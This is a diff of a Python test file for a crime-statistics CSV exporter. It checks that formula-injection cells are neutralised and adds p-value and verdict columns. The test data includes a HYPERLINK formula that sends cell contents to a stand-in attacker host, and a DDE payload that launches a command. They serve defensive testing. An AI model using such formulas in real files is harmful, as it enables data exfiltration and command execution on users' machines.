@@ -12,6 +12,7 @@ from hypothesis import strategies as st
 
 from saferplan import safe_cells
 from saferplan.crime import tables
+from saferplan.crime.statistics import compare_counts
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A2,"Click")'
 HOSTILE = [
@@ -41,10 +42,15 @@ def test_crime_csv_cells_are_neutralised_and_changes_stay_numbers():
         "comparison",
         "Crimes",
         ["Crime type", "Count", "Change"],
-        [["=cmd|' /C calc'!A0", 3, tables.Change(-12.5)], ["Burglary", 0, tables.Change(None)]],
+        [
+            ["=cmd|' /C calc'!A0", 35, tables.Change(compare_counts(35, 40))],
+            ["Burglary", 0, tables.Change(None)],
+        ],
     )
     rows = list(csv.reader(StringIO(tables.as_csv(table))))
-    assert rows[1] == ["'=cmd|' /C calc'!A0", "3", "-12.5"]
+    assert rows[0] == ["Crime type", "Count", "Change (%)", "p-value", "Verdict"]
+    assert rows[1] == ["'=cmd|' /C calc'!A0", "35", "-12.5", "0.6445", "no change beyond chance"]
+    assert rows[2] == ["Burglary", "0", "", "", ""]
 
 
 @pytest.mark.parametrize("text", [*HOSTILE, "", "'", "''", "=", "'\t"])
